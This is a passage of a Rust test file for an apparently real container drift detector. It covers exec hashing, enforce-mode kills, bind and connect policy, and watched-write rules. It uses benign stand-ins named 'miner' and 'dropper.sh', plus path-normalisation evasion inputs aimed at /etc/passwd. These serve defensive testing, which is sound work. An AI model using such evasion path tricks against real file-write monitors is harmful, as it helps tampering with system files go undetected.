//! The decision on each event: execs from the lower layers, copies of image binaries and
//! new binaries (hashed for real through /proc of live processes), enforce mode's kill,
//! exited processes, connects and writes under the policy, drops; the policy file's syntax
//! and its errors.

use std::fs;
use std::os::unix::fs::MetadataExt;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::{Duration, Instant};

use berth_test_support::{ChildGuard, wait_until};
use berth_watch::containers::{Container, OverlayRoot, RuntimeKind};
use berth_watch::detect::{
    Action, Detector, Policy, ProcFiles, ProcessFiles, Reason, Rule, Verdict,
};
use berth_watch::event::{Bind, Connect, Event, Exec, FileOrigin, OpenWrite};
use berth_watch::profile::{ImageFacts, Profile};

use crate::support::{put, sha256};

pub fn container(name: &str) -> Container {
    Container {
        id: format!("{name}-0123456789abcdef"),
        name: name.to_owned(),
        runtime: RuntimeKind::Berth,
        namespace: None,
        image: "registry.example/app:1".to_owned(),
        bundle: None,
        pid: 1,
        start_time: 0,
        cgroup_path: format!("/berth/{name}"),
        cgroup_id: 4242,
        overlay: None,
        mnt_ns: None,
        pid_ns_level: Some(1),
        sbom: None,
        declared_ports: None,
    }
}

pub fn exec(pid: u32, filename: &str, ino: u64, origin: FileOrigin) -> Exec {
    Exec {
        cgroup_id: 4242,
        pid,
        ppid: 1,
        uid: 0,
        boot_ns: 1_000,
        filename: filename.to_owned(),
        argv: vec![filename.to_owned(), "30".to_owned()],
        argv_truncated: false,
        interpreted: false,
        ino,
        dev: 0,
        origin,
        mnt_ns: 0,
        pid_ns_level: 1,
    }
}

/// An image whose only executable is `/bin/sleep`, the host's.
fn sleep_image(t: &Path) -> Profile {
    let img = t.join("image");
    put(
        &img.join("bin/sleep"),
        &fs::read(sleep_bin()).unwrap(),
        0o755,
    );
    Profile::from_dirs(&[img], ImageFacts::default()).unwrap()
}

fn sleep_bin() -> PathBuf {
    let p = PathBuf::from("/bin/sleep");
    assert!(
        p.is_file(),
        "/bin/sleep is missing\nhint: apt-get install coreutils"
    );
    p
}

/// `path 30` running; killed on drop.
fn run(path: &Path) -> ChildGuard {
    let g = ChildGuard::spawn(Command::new(path).arg("30"));
    let pid = g.id().unwrap();
    // exec'd once /proc/PID/exe is the file
    let ino = fs::metadata(path).unwrap().ino();
    assert!(
        wait_until(Duration::from_secs(10), || fs::metadata(format!(
            "/proc/{pid}/exe"
        ))
        .is_ok_and(|m| m.ino() == ino)),
        "{} never ran",
        path.display()
    );
    g
}

fn decide(d: &Detector, e: Exec, c: &Container, p: &Profile) -> berth_watch::detect::Decision {
    d.decide(
        &Event::Exec(e),
        Some(c),
        Some(p),
        &ProcFiles::new(Path::new("/proc")),
    )
}

/// An exec in a container's cgroup from a pid namespace above the container's, or from the
/// host's mount namespace while the container has its own, is its runtime's (runc's re-exec of
/// itself from a memfd, before it enters the container): expected, never hashed. Anywhere the
/// container's own processes can be, the same exec is judged.
#[test]
fn an_exec_outside_the_containers_namespaces_is_the_runtimes() {
    let t = tempfile::tempdir().unwrap();
    let p = sleep_image(t.path());
    let (host, own) = (4026531841, 4026532999);
    let detector = Detector {
        host_mnt_ns: Some(host),
        ..Detector::default()
    };
    let mut c = container("web");
    c.mnt_ns = Some(own);
    c.pid_ns_level = Some(1);
    // pid 0 cannot be read: judged, the exec is unreadable, which is drift
    let memfd = |mnt_ns, pid_ns_level| Exec {
        mnt_ns,
        pid_ns_level,
        ..exec(0, "/dev/fd/6", 77, FileOrigin::NotOverlay)
    };
    let runtime = (Verdict::Expected, None, Reason::Runtime);
    let judged = |d: berth_watch::detect::Decision| (d.verdict, d.reason);
    let verdict = |d: berth_watch::detect::Decision| (d.verdict, d.rule, d.reason);
    // runc's init: the host's pid and mount namespaces
    assert_eq!(verdict(decide(&detector, memfd(host, 0), &c, &p)), runtime);
    // an unshare'd mount namespace inside the container, or a nested pid namespace: judged
    for (mnt, level) in [(own, 1), (4026533000, 1), (own, 2), (4026533000, 3)] {
        let d = judged(decide(&detector, memfd(mnt, level), &c, &p));
        assert_eq!(d.0, Verdict::Drift, "mnt {mnt}, pid level {level}: {d:?}");
    }
    // no pid namespace of its own (hostPID): the mount namespace tells
    c.pid_ns_level = Some(0);
    assert_eq!(verdict(decide(&detector, memfd(host, 0), &c, &p)), runtime);
    assert_eq!(
        judged(decide(&detector, memfd(own, 0), &c, &p)).0,
        Verdict::Drift
    );
    // and the host's mount namespace too: nothing tells, every exec is judged
    c.mnt_ns = Some(host);
    assert_eq!(
        judged(decide(&detector, memfd(host, 0), &c, &p)).0,
        Verdict::Drift
    );
    // what cannot be read is not taken for the runtime
    c.mnt_ns = None;
    c.pid_ns_level = None;
    assert_eq!(
        judged(decide(&detector, memfd(host, 0), &c, &p)).0,
        Verdict::Drift
    );
}

#[test]
fn an_exec_from_the_lower_layers_is_expected_without_hashing() {
    let t = tempfile::tempdir().unwrap();
    let p = sleep_image(t.path());
    // pid 0 cannot be read: a Lower exec is never hashed
    let d = decide(
        &Detector::default(),
        exec(0, "/docker-entrypoint.sh", 1, FileOrigin::Lower),
        &container("web"),
        &p,
    );
    assert_eq!(
        (d.verdict, d.rule, &d.reason),
        (Verdict::Expected, None, &Reason::LowerLayer)
    );
    assert_eq!(d.sha256, None);
}

#[test]
fn a_copy_of_an_image_binary_under_another_name_is_not_drift() {
    let t = tempfile::tempdir().unwrap();
    let p = sleep_image(t.path());
    let copy = t.path().join("upper/usr/local/bin/napper");
    put(&copy, &fs::read(sleep_bin()).unwrap(), 0o755);
    let child = run(&copy);
    let pid = child.id().unwrap();
    let e = exec(
        pid,
        copy.to_str().unwrap(),
        fs::metadata(&copy).unwrap().ino(),
        FileOrigin::Upper,
    );
    let d = decide(&Detector::default(), e, &container("web"), &p);
    assert_eq!(d.verdict, Verdict::Expected, "{d:?}");
    assert_eq!(
        d.reason,
        Reason::CopyOfImageFile {
            path: "/bin/sleep".into()
        }
    );
    assert_eq!(d.sha256, Some(sha256(&fs::read(sleep_bin()).unwrap())));
    assert_eq!(d.hashed_via, Some("root"));
    assert_eq!(d.action, Action::None);
}

/// The image's signed SBOM adds expected content: a binary in none of the layers whose
/// content the SBOM lists is expected (`sbom_file`), drift without it; where the SBOM lists
/// other content than the layers hold, the layers' content stays expected and the path is
/// recorded as mismatched.
#[test]
fn a_binary_the_signed_sbom_lists_is_expected_and_a_mismatch_is_recorded() {
    let t = tempfile::tempdir().unwrap();
    // an image with /bin/true only (the host's)
    let img = t.path().join("image");
    put(
        &img.join("bin/true"),
        &fs::read("/bin/true").unwrap(),
        0o755,
    );
    let image_only = Profile::from_dirs(&[img], ImageFacts::default()).unwrap();
    let sleep = fs::read(sleep_bin()).unwrap();
    let sbom = std::collections::BTreeMap::from([
        ("/usr/bin/sleep".to_owned(), sha256(&sleep)),
        ("/bin/true".to_owned(), sha256(b"another build of true")),
    ]);
    let with_sbom =
        image_only
            .clone()
            .with_sbom("sha256:0123".to_owned(), "CN=ci,O=example".to_owned(), sbom);
    let s = with_sbom.sbom.as_ref().unwrap();
    assert_eq!(s.mismatched, ["/bin/true"]);
    assert_eq!(
        Profile::from_json(&with_sbom.to_json()).unwrap(),
        with_sbom,
        "the SBOM's files survive the round trip (and are found again)"
    );

    let copy = t.path().join("upper/opt/sleeper");
    put(&copy, &sleep, 0o755);
    let child = run(&copy);
    let e = exec(
        child.id().unwrap(),
        copy.to_str().unwrap(),
        fs::metadata(&copy).unwrap().ino(),
        FileOrigin::Upper,
    );
    let d = decide(
        &Detector::default(),
        e.clone(),
        &container("web"),
        &image_only,
    );
    assert_eq!(
        (d.verdict, &d.reason),
        (Verdict::Drift, &Reason::NotInImage)
    );
    let d = decide(
        &Detector::default(),
        e.clone(),
        &container("web"),
        &with_sbom,
    );
    assert_eq!(
        (d.verdict, &d.reason),
        (
            Verdict::Expected,
            &Reason::SbomFile {
                path: "/usr/bin/sleep".into()
            }
        ),
        "{d:?}"
    );
    let back = Profile::from_json(&with_sbom.to_json()).unwrap();
    let d = decide(&Detector::default(), e, &container("web"), &back);
    assert_eq!(d.verdict, Verdict::Expected, "{d:?}");
    // the layers' /bin/true (not the SBOM's content) is still expected
    assert!(
        with_sbom
            .find_hash(&sha256(&fs::read("/bin/true").unwrap()))
            .is_some()
    );
}

#[test]
fn a_new_binary_is_drift_and_killed_in_enforce_mode_with_the_latency_measured() {
    let t = tempfile::tempdir().unwrap();
    let p = sleep_image(t.path());
    // a binary the image does not have: sleep with one more byte (still runs)
    let mut data = fs::read(sleep_bin()).unwrap();
    data.push(0);
    let miner = t.path().join("upper/tmp/miner");
    put(&miner, &data, 0o755);
    let mut child = run(&miner);
    let pid = child.id().unwrap();
    let e = exec(
        pid,
        miner.to_str().unwrap(),
        fs::metadata(&miner).unwrap().ino(),
        FileOrigin::Upper,
    );

    let alert_only = decide(&Detector::default(), e.clone(), &container("web-1"), &p);
    assert_eq!(
        (alert_only.verdict, alert_only.rule),
        (Verdict::Drift, Some(Rule::ExecDrift))
    );
    assert_eq!(alert_only.reason, Reason::NotInImage);
    assert_eq!(alert_only.sha256, Some(sha256(&data)));
    assert_eq!(
        alert_only.action,
        Action::None,
        "no enforcement without a policy"
    );

    let policy = Policy::from_toml("[watch]\nenforce = [{ container = \"web-*\" }]\n").unwrap();
    let detector = Detector::new(policy);
    let other = decide(&detector, e.clone(), &container("db"), &p);
    assert_eq!(
        (other.verdict, other.action),
        (Verdict::Drift, Action::None),
        "db is not enforced"
    );
    let started = Instant::now();
    let d = decide(&detector, e, &container("web-1"), &p);
    assert_eq!(d.action, Action::Kill { pid });
    rustix::process::kill_process(
        rustix::process::Pid::from_raw(i32::try_from(pid).unwrap()).unwrap(),
        rustix::process::Signal::KILL,
    )
    .unwrap();
    let status = child.child().unwrap().wait().unwrap();
    let killed = started.elapsed();
    assert_eq!(
        std::os::unix::process::ExitStatusExt::signal(&status),
        Some(9)
    );
    eprintln!(
        "drift decision (hash of a {} KiB binary through /proc) in {:?}; decision to reaped kill in {killed:?}",
        data.len() >> 10,
        d.latency
    );
    assert!(
        d.latency > Duration::ZERO && d.latency < Duration::from_secs(5),
        "{:?}",
        d.latency
    );
}

#[test]
fn an_exec_allowed_by_the_policy_is_expected_by_its_pattern() {
    let t = tempfile::tempdir().unwrap();
    let p = sleep_image(t.path());
    let d =
        Detector::new(Policy::from_toml("[watch]\nallow_exec = [\"/opt/tools/**\"]\n").unwrap());
    let dec = decide(
        &d,
        exec(0, "/opt/tools/bin/jq", 7, FileOrigin::Upper),
        &container("web"),
        &p,
    );
    assert_eq!(dec.verdict, Verdict::Expected);
    assert_eq!(
        dec.reason,
        Reason::Policy {
            pattern: "/opt/tools/**".into()
        }
    );
}

#[test]
fn an_exited_process_is_hashed_from_the_upper_dir_or_else_counted_as_drift() {
    let t = tempfile::tempdir().unwrap();
    let p = sleep_image(t.path());
    // a process that has exited: nothing under /proc/PID
    let mut gone = Command::new("true").spawn().unwrap();
    let pid = gone.id();
    gone.wait().unwrap();
    let e = exec(pid, "/usr/local/bin/napper", 99, FileOrigin::Upper);
    let d = decide(&Detector::default(), e.clone(), &container("web"), &p);
    assert_eq!((d.verdict, d.rule), (Verdict::Drift, Some(Rule::ExecDrift)));
    assert!(
        matches!(&d.reason, Reason::Unreadable { error } if error.contains("napper")),
        "{:?}",
        d.reason
    );

    // with the container's upper directory known, the file is read from there
    let upper = t.path().join("upper");
    put(
        &upper.join("usr/local/bin/napper"),
        &fs::read(sleep_bin()).unwrap(),
        0o755,
    );
    let mut c = container("web");
    c.overlay = Some(OverlayRoot {
        lower: vec![],
        upper: Some(upper),
    });
    let d = decide(&Detector::default(), e, &c, &p);
    assert_eq!(d.verdict, Verdict::Expected, "{d:?}");
    assert_eq!(d.hashed_via, Some("upperdir"));

    // a plain-directory root has no upper directory: the file is read at its path in the
    // container init's root, when the process ran in the init's mount namespace and the
    // inode (and device) there are the ones executed
    let bin = t.path().join("plain/bin/napper");
    put(&bin, &fs::read(sleep_bin()).unwrap(), 0o755);
    let meta = fs::metadata(&bin).unwrap();
    let own_ns = fs::metadata("/proc/self/ns/mnt").unwrap().ino();
    let mut plain = container("web");
    plain.pid = std::process::id();
    plain.mnt_ns = Some(own_ns);
    let mut e = exec(
        pid,
        bin.to_str().unwrap(),
        meta.ino(),
        FileOrigin::NotOverlay,
    );
    e.dev = meta.dev();
    e.mnt_ns = own_ns;
    let d = decide(&Detector::default(), e.clone(), &plain, &p);
    assert_eq!(
        (d.verdict, d.hashed_via),
        (Verdict::Expected, Some("init_root")),
        "{d:?}"
    );
    // not the executed inode, not its device, or another mount namespace: not taken for it
    let mut other_ino = e.clone();
    other_ino.ino += 1;
    let mut other_dev = e.clone();
    other_dev.dev += 1;
    let mut other_ns = e.clone();
    other_ns.mnt_ns += 1;
    for (what, e) in [
        ("inode", other_ino),
        ("device", other_dev),
        ("mount namespace", other_ns),
    ] {
        let d = decide(&Detector::default(), e, &plain, &p);
        assert!(
            matches!(&d.reason, Reason::Unreadable { .. }),
            "another {what}: {d:?}"
        );
    }
}

#[test]
fn hashing_resolves_symlinks_inside_the_process_root_and_checks_the_inode() {
    let t = tempfile::tempdir().unwrap();
    let copy = t.path().join("napper");
    put(&copy, &fs::read(sleep_bin()).unwrap(), 0o755);
    let child = run(&copy);
    let pid = child.id().unwrap();
    let files = ProcFiles::new(Path::new("/proc"));
    let ino = fs::metadata(&copy).unwrap().ino();
    let h = files
        .hash_executed(
            &exec(pid, copy.to_str().unwrap(), ino, FileOrigin::NotOverlay),
            &container("c"),
        )
        .unwrap();
    assert_eq!(
        (h.via, h.size),
        ("root", fs::metadata(&copy).unwrap().len())
    );
    // the path now names another file: the inode check falls back to /proc/PID/exe
    fs::remove_file(&copy).unwrap();
    put(&copy, b"#!/bin/sh\n", 0o755);
    let h2 = files
        .hash_executed(
            &exec(pid, copy.to_str().unwrap(), ino, FileOrigin::NotOverlay),
            &container("c"),
        )
        .unwrap();
    assert_eq!((h2.via, &h2.sha256), ("exe", &h.sha256));
    // a FIFO put at the path neither hangs the hashing nor is taken for the file, even
    // when the event has no inode to compare
    fs::remove_file(&copy).unwrap();
    rustix::fs::mknodat(
        rustix::fs::CWD,
        &copy,
        rustix::fs::FileType::Fifo,
        rustix::fs::Mode::from_raw_mode(0o644),
        0,
    )
    .unwrap();
    for event_ino in [ino, 0] {
        let h3 = files
            .hash_executed(
                &exec(
                    pid,
                    copy.to_str().unwrap(),
                    event_ino,
                    FileOrigin::NotOverlay,
                ),
                &container("c"),
            )
            .unwrap();
        assert_eq!((h3.via, &h3.sha256), ("exe", &h.sha256));
    }
    // bounded: a limit below the size refuses to hash
    let mut small = ProcFiles::new(Path::new("/proc"));
    small.max_bytes = 1024;
    let err = small
        .hash_executed(
            &exec(pid, copy.to_str().unwrap(), ino, FileOrigin::NotOverlay),
            &container("c"),
        )
        .unwrap_err();
    assert!(err.to_string().contains("over the limit"), "{err}");
}

fn connect(to: &str, blocked: bool) -> Event {
    Event::Connect(Connect {
        cgroup_id: 4242,
        pid: 10,
        uid: 0,
        boot_ns: 5,
        destination: to.parse().unwrap(),
        stream: true,
        blocked,
    })
}

fn decide_event(d: &Detector, e: &Event) -> berth_watch::detect::Decision {
    d.decide(
        e,
        Some(&container("web")),
        None,
        &ProcFiles::new(Path::new("/proc")),
    )
}

/// A bind to a port the image declares (its runtime config's `exposedPorts` annotation, as
/// the container's `declared_ports`) is expected, of that protocol only; another is an alert,
/// unless on loopback or the policy's `allow_listen` allows it; a container whose config does
/// not say which ports its image declares is unprofiled for binds.
#[test]
fn binds_to_ports_the_image_does_not_declare_alert() {
    let d = Detector::new(
        Policy::from_toml("[watch]\nallow_listen = [\"9000-9100/tcp\", \"5353\"]\n").unwrap(),
    );
    let mut c = container("web");
    c.declared_ports = Some(vec![berth_watch::profile::Port {
        port: 8080,
        protocol: "tcp".into(),
    }]);
    let bind = |addr: &str, stream: bool| {
        Event::Bind(Bind {
            cgroup_id: 4242,
            pid: 7,
            uid: 0,
            boot_ns: 1,
            address: addr.parse().unwrap(),
            stream,
        })
    };
    let files = ProcFiles::new(Path::new("/proc"));
    let decide = |e: &Event, c: &Container| d.decide(e, Some(c), None, &files);
    let declared = decide(&bind("0.0.0.0:8080", true), &c);
    assert_eq!(
        (declared.verdict, &declared.reason),
        (Verdict::Expected, &Reason::DeclaredPort)
    );
    for (addr, stream, why) in [
        ("0.0.0.0:8080", false, "udp, where the image declares tcp"),
        ("[::]:4444", true, "a port the image does not declare"),
        ("10.0.0.5:9101", true, "past the policy's range"),
    ] {
        let out = decide(&bind(addr, stream), &c);
        assert_eq!(
            (out.verdict, out.rule, &out.reason),
            (
                Verdict::Alert,
                Some(Rule::ListenOutsideProfile),
                &Reason::NotDeclared
            ),
            "{why}"
        );
    }
    assert_eq!(
        decide(&bind("0.0.0.0:9050", true), &c).reason,
        Reason::Policy {
            pattern: "9000-9100/tcp".into()
        }
    );
    assert_eq!(
        decide(&bind("[::]:5353", false), &c).verdict,
        Verdict::Expected,
        "a policy port without a protocol is both"
    );
    assert_eq!(
        decide(&bind("127.0.0.1:4444", true), &c).reason,
        Reason::Loopback
    );
    let strict = Detector::new(Policy::from_toml("[watch]\nallow_loopback = false\n").unwrap());
    assert_eq!(
        strict
            .decide(&bind("127.0.0.1:4444", true), Some(&c), None, &files)
            .rule,
        Some(Rule::ListenOutsideProfile)
    );
    let unknown = decide(&bind("0.0.0.0:4444", true), &container("web"));
    assert_eq!(
        (unknown.verdict, &unknown.reason),
        (Verdict::Unprofiled, &Reason::NoDeclaredPorts)
    );
    let err = Policy::from_toml("[watch]\nallow_listen = [\"80/sctp\"]\n")
        .unwrap_err()
        .to_string();
    assert!(
        err.contains("allow_listen[0]") && err.contains("PORT[-PORT][/tcp|/udp]"),
        "{err}"
    );
}

#[test]
fn connects_outside_the_allowed_destinations_alert() {
    let d = Detector::new(
        Policy::from_toml(
            "[watch]\nallow_connect = [\"10.0.0.0/8:443\", \"[2001:db8::/32]:80-90\"]\n",
        )
        .unwrap(),
    );
    let ok = decide_event(&d, &connect("10.2.3.4:443", false));
    assert_eq!(
        (ok.verdict, &ok.reason),
        (
            Verdict::Expected,
            &Reason::Policy {
                pattern: "10.0.0.0/8:443".into()
            }
        )
    );
    assert_eq!(
        decide_event(&d, &connect("[2001:db8::1]:85", false)).verdict,
        Verdict::Expected
    );
    let out = decide_event(&d, &connect("203.0.113.9:443", false));
    assert_eq!(
        (out.verdict, out.rule, out.action),
        (
            Verdict::Alert,
            Some(Rule::ConnectOutsideProfile),
            Action::None
        )
    );
    let port = decide_event(&d, &connect("10.2.3.4:80", false));
    assert_eq!(
        port.verdict,
        Verdict::Alert,
        "the port is outside the range"
    );
    assert_eq!(
        decide_event(&d, &connect("127.0.0.1:5432", false)).reason,
        Reason::Loopback
    );
    let blocked = decide_event(&d, &connect("203.0.113.9:443", true));
    assert_eq!(
        (blocked.verdict, blocked.action),
        (Verdict::Alert, Action::Blocked)
    );

    let strict = Detector::new(Policy::from_toml("[watch]\nallow_loopback = false\n").unwrap());
    assert_eq!(
        decide_event(&strict, &connect("[::1]:5432", false)).verdict,
        Verdict::Alert
    );
}

#[test]
fn writes_under_watched_prefixes_alert_relative_paths_through_the_cwd() {
    let cwd = std::env::current_dir().unwrap();
    let policy = Policy::from_json(
        &serde_json::to_vec(
            &serde_json::json!({"watch": {"watch_writes": ["/etc", cwd.join("watched")]}}),
        )
        .unwrap(),
    )
    .unwrap();
    let d = Detector::new(policy);
    let write = |path: &str, pid: u32| {
        Event::OpenWrite(OpenWrite {
            cgroup_id: 4242,
            pid,
            uid: 0,
            boot_ns: 5,
            path: path.to_owned(),
            flags: 0o1101,
        })
    };
    let a = decide_event(&d, &write("/etc/passwd", 10));
    assert_eq!(
        (a.verdict, a.rule),
        (Verdict::Alert, Some(Rule::WriteUnderWatchedPath))
    );
    assert_eq!(
        a.reason,
        Reason::WatchedPrefix {
            prefix: "/etc".into()
        }
    );
    assert_eq!(decide_event(&d, &write("/etc", 10)).verdict, Verdict::Alert);
    assert_eq!(
        decide_event(&d, &write("/etcetera/x", 10)).verdict,
        Verdict::Expected
    );
    assert_eq!(
        decide_event(&d, &write("/tmp/x", 10)).reason,
        Reason::NotWatched
    );
    // named otherwise, the same file: as the kernel resolves the name
    for other in [
        "//etc/passwd",
        "/etc/./passwd",
        "/tmp/../etc/passwd",
        "/../etc//passwd",
    ] {
        assert_eq!(
            decide_event(&d, &write(other, 10)).verdict,
            Verdict::Alert,
            "{other}"
        );
    }
    assert_eq!(
        decide_event(&d, &write("/etc/../tmp/x", 10)).verdict,
        Verdict::Expected
    );
    // a relative path is joined to the process' working directory (this test's)
    let me = std::process::id();
    assert_eq!(
        decide_event(&d, &write("watched/x", me)).verdict,
        Verdict::Alert
    );
    assert_eq!(
        decide_event(&d, &write("other/x", me)).verdict,
        Verdict::Expected
    );
}

#[test]
fn drops_always_alert_and_unknown_containers_or_profiles_never_do() {
    let d = Detector::default();
    let files = ProcFiles::new(Path::new("/proc"));
    let drop = d.decide(&Event::Dropped { count: 7 }, None, None, &files);
    assert_eq!(
        (drop.verdict, drop.rule, &drop.reason),
        (
            Verdict::Dropped,
            Some(Rule::EventsDropped),
            &Reason::KernelDrops { count: 7 }
        )
    );
    let e = Event::Exec(exec(1, "/tmp/x", 1, FileOrigin::Upper));
    let host = d.decide(&e, None, None, &files);
    assert_eq!((host.verdict, host.rule), (Verdict::Unattributed, None));
    let unprofiled = d.decide(&e, Some(&container("web")), None, &files);
    assert_eq!(
        (unprofiled.verdict, unprofiled.rule),
        (Verdict::Unprofiled, None)
    );
}

#[test]
fn policy_errors_name_the_field_and_the_fix() {
    let err = |text: &str| Policy::from_toml(text).unwrap_err().to_string();
    let e = err("[watch]\nallow_connect = [\"10.0.0.0/8\", \"10.0.0.0/40\"]\n");
    assert!(
        e.contains("watch.allow_connect[1]") && e.contains("prefix length") && e.contains("hint:"),
        "{e}"
    );
    let e = err("[watch]\nallow_exec = [\"usr/bin/*\"]\n");
    assert!(
        e.contains("watch.allow_exec[0]") && e.contains("absolute"),
        "{e}"
    );
    let e = err("[watch]\nenforce = [{}]\n");
    assert!(e.contains("watch.enforce[0]"), "{e}");
    let unknown = Policy::from_toml("[watch]\nallow_exe = []\n").unwrap_err();
    let cause = std::error::Error::source(&unknown)
        .map(ToString::to_string)
        .unwrap_or_default();
    assert!(
        cause.contains("allow_exe"),
        "unknown fields are refused: {unknown}: {cause}"
    );
    let p = Policy::from_toml("").unwrap();
    assert!(
        p.allow_loopback && p.enforce.is_empty(),
        "an empty file is the default policy"
    );
    let img =
        Policy::from_toml("[watch]\nenforce = [{ image = \"registry.example/*\" }]\n").unwrap();
    assert!(img.enforces(&container("anything")));
}

/// An overlay mount, unmounted on drop.
struct Mounted(PathBuf);

impl Drop for Mounted {
    fn drop(&mut self) {
        let _ = rustix::mount::unmount(&self.0, rustix::mount::UnmountFlags::DETACH);
    }
}

/// A container of `runtime` on an overlay whose lower layer is the bundle's rootfs (busybox),
/// running a binary written into its upper layer: drift, read through the container's own
/// root (its mount namespace); a copy of the image's busybox under another path: expected;
/// in enforce mode the drifting init is killed and the container stops.
fn drift_in_a_real_container(runtime: &str) {
    use berth_test_support::{Bundle, ContainerGuard, Runtime};
    crate::support::require_root("starting containers on an overlay");
    let rt = if runtime == "berth-runtime" {
        Runtime::find(runtime).unwrap_or_else(|| {
            panic!("berth-runtime is not built\nhint: cargo build -p berth-runtime-cli (scripts/test builds the workspace)")
        })
    } else {
        crate::support::require_tool(runtime, &format!("apt-get install -y {runtime}"));
        Runtime::find(runtime).unwrap()
    };
    let t = tempfile::tempdir().unwrap();
    let mut bundle = Bundle::new();
    let (upper, work, merged) = (
        t.path().join("upper"),
        t.path().join("work"),
        t.path().join("merged"),
    );
    for d in [&upper, &work, &merged] {
        fs::create_dir(d).unwrap();
    }
    let data = format!(
        "lowerdir={},upperdir={},workdir={}",
        bundle.rootfs().display(),
        upper.display(),
        work.display()
    );
    let data = std::ffi::CString::new(data).unwrap();
    rustix::mount::mount(
        "overlay",
        &merged,
        "overlay",
        rustix::mount::MountFlags::empty(),
        data.as_c_str(),
    )
    .unwrap();
    let _m = Mounted(merged.clone());
    // written in the container's upper layer: busybox with one more byte (still runs), and a
    // plain copy; both named busybox so that busybox runs its `sleep` applet
    let busybox = fs::read(bundle.rootfs().join("bin/busybox")).unwrap();
    let mut changed = busybox.clone();
    changed.push(0);
    put(&merged.join("tmp/new/busybox"), &changed, 0o755);
    put(&merged.join("tmp/copy/busybox"), &busybox, 0o755);
    bundle.config_mut()["root"]["path"] = serde_json::json!(merged);
    bundle.args(&["/tmp/new/busybox", "sleep", "600"]);
    let drifting = ContainerGuard::create(&rt, &bundle);
    drifting.start();
    let pid = u32::try_from(drifting.pid()).unwrap();

    let profile = Profile::from_dirs(&[bundle.rootfs()], ImageFacts::default()).unwrap();
    assert!(profile.executable("/bin/busybox").is_some());
    let mut c = container("web-1");
    c.id = bundle.id().to_owned();
    c.pid = pid;
    c.overlay = Some(OverlayRoot {
        lower: vec![bundle.rootfs()],
        upper: Some(upper.clone()),
    });
    let ino_in = |p: &str| fs::metadata(format!("/proc/{pid}/root{p}")).unwrap().ino();
    let enforce = Detector::new(
        Policy::from_toml("[watch]\nenforce = [{ container = \"web-*\" }]\n").unwrap(),
    );
    let files = ProcFiles::new(Path::new("/proc"));
    let e = exec(
        pid,
        "/tmp/new/busybox",
        ino_in("/tmp/new/busybox"),
        FileOrigin::Upper,
    );
    let d = enforce.decide(&Event::Exec(e), Some(&c), Some(&profile), &files);
    assert_eq!(
        (d.verdict, d.rule, &d.reason),
        (Verdict::Drift, Some(Rule::ExecDrift), &Reason::NotInImage),
        "{runtime}: {d:?}"
    );
    assert_eq!(
        (d.sha256.as_ref(), d.hashed_via),
        (Some(&sha256(&changed)), Some("root"))
    );
    // the same file, named through a symlink that is absolute inside the container (it
    // resolves in the container's root, not the host's)
    std::os::unix::fs::symlink("/tmp/new", merged.join("tmp/link")).unwrap();
    let via_link = exec(
        pid,
        "/tmp/link/busybox",
        ino_in("/tmp/new/busybox"),
        FileOrigin::Upper,
    );
    let d2 = enforce.decide(&Event::Exec(via_link), Some(&c), Some(&profile), &files);
    assert_eq!(
        (d2.verdict, d2.hashed_via),
        (Verdict::Drift, Some("root")),
        "{runtime}: {d2:?}"
    );
    // a copy of the image's busybox in the same container (inode as the process sees it)
    let copy = exec(
        pid,
        "/tmp/copy/busybox",
        ino_in("/tmp/copy/busybox"),
        FileOrigin::Upper,
    );
    let ok = enforce.decide(&Event::Exec(copy), Some(&c), Some(&profile), &files);
    assert_eq!(
        ok.reason,
        Reason::CopyOfImageFile {
            path: "/bin/busybox".into()
        },
        "{runtime}"
    );

    // enforce: the caller kills the pid; the container stops
    let Action::Kill { pid: victim } = d.action else {
        panic!("{runtime}: no kill in enforce mode: {d:?}")
    };
    let started = Instant::now();
    rustix::process::kill_process(
        rustix::process::Pid::from_raw(i32::try_from(victim).unwrap()).unwrap(),
        rustix::process::Signal::KILL,
    )
    .unwrap();
    assert!(
        drifting.wait_for_status("stopped", Duration::from_secs(30)),
        "{runtime}: the container did not stop"
    );
    eprintln!(
        "{runtime}: drift decided in {:?} (hash through the container's root); kill to stopped {:?}",
        d.latency,
        started.elapsed()
    );
}

#[test]
fn drift_in_a_runc_container_is_decided_through_its_root_and_killed() {
    drift_in_a_real_container("runc");
}

#[test]
fn drift_in_a_crun_container_is_decided_through_its_root_and_killed() {
    drift_in_a_real_container("crun");
}

#[test]
fn drift_in_a_berth_runtime_container_is_decided_through_its_root_and_killed() {
    drift_in_a_real_container("berth-runtime");
}

/// `sh <script>` running (sh waits on its `sleep`), as the kernel runs `#!/bin/sh` scripts.
fn run_script(path: &Path) -> ChildGuard {
    let g = ChildGuard::spawn(&mut Command::new(path));
    let pid = g.id().unwrap();
    let sh = fs::metadata("/bin/sh").unwrap().ino();
    assert!(
        wait_until(Duration::from_secs(10), || fs::metadata(format!(
            "/proc/{pid}/exe"
        ))
        .is_ok_and(|m| m.ino() == sh)),
        "{} never ran under /bin/sh",
        path.display()
    );
    g
}

#[test]
fn a_script_is_judged_by_its_content_and_its_interpreter_by_its_own() {
    let t = tempfile::tempdir().unwrap();
    let script_text = b"#!/bin/sh\nsleep 30\n";
    let script = t.path().join("upper/tmp/dropper.sh");
    put(&script, script_text, 0o755);
    let child = run_script(&script);
    let pid = child.id().unwrap();
    // as the probe reports it: the interpreter's inode and origin, the script's path
    let mut e = exec(
        pid,
        script.to_str().unwrap(),
        fs::metadata("/bin/sh").unwrap().ino(),
        FileOrigin::Lower,
    );
    e.interpreted = true;
    let sh = fs::read("/bin/sh").unwrap();
    let image = |with_script: bool| {
        let img = t.path().join(format!("image-{with_script}"));
        put(&img.join("bin/sh"), &sh, 0o755);
        if with_script {
            put(&img.join("usr/local/bin/tool.sh"), script_text, 0o755);
        }
        Profile::from_dirs(&[img], ImageFacts::default()).unwrap()
    };
    let detector = Detector::default();
    let files = ProcFiles::new(Path::new("/proc"));
    let c = container("web");

    // the interpreter is the image's, the script is not: drift, about the script
    let d = detector.decide(
        &Event::Exec(e.clone()),
        Some(&c),
        Some(&image(false)),
        &files,
    );
    assert_eq!(
        (d.verdict, &d.reason, d.judged),
        (Verdict::Drift, &Reason::NotInImage, Some("script")),
        "{d:?}"
    );
    assert_eq!(
        (d.sha256.as_ref(), d.hashed_via),
        (Some(&sha256(script_text)), Some("root"))
    );
    // the same script shipped by the image (elsewhere): expected
    let ok = detector.decide(
        &Event::Exec(e.clone()),
        Some(&c),
        Some(&image(true)),
        &files,
    );
    assert_eq!(
        ok.reason,
        Reason::CopyOfImageFile {
            path: "/usr/local/bin/tool.sh".into()
        },
        "{ok:?}"
    );
